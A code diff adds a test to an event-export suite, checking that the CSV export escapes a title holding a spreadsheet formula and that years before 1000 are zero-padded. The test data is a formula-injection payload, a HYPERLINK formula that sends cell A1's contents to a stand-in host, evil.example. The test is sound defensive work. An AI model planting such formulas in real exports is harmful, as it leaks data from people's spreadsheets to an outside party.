@@ -191,6 +191,35 @@ describe('exports over HTTP and from the command line', () => {
     expect(local.status).toBe(0);
     expect(local.stdout).toBe(http);
   });
+  it('writes a cell that a spreadsheet would run as text, and pads years before 1000', async () => {
+    // Last in this block: the record it adds would change the other exports' answers.
+    const editor = createToken(server.env, 'export-editor', 'editor');
+    const title = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const recorded = await gql(
+      server.url,
+      `mutation($input: RecordEventInput!) { recordEvent(input: $input) { id } }`,
+      {
+        input: {
+          kind: 'TALKS',
+          title,
+          occurred: '2023-05-01',
+          countries: ['USA', 'CUB'],
+          sources: [{ title: 'Statement', publisher: 'Example Ministry' }],
+        },
+      },
+      editor,
+    );
+    expect(recorded.errors).toBeUndefined();
+    const csv = await (
+      await get('/exports/events.csv?occurredFrom=2023-05-01&occurredTo=2023-05-01')
+    ).text();
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+
+    const panel = await (await get('/exports/panel.csv?between=USA,CUB&from=0998&to=1001')).text();
+    const rows = panel.trim().split('\n').slice(1);
+    expect(rows.map((row) => row.split(',')[0])).toEqual(['0998', '0999', '1000', '1001']);
+  });
 });
 
 describe('exports when reads are private', () => {
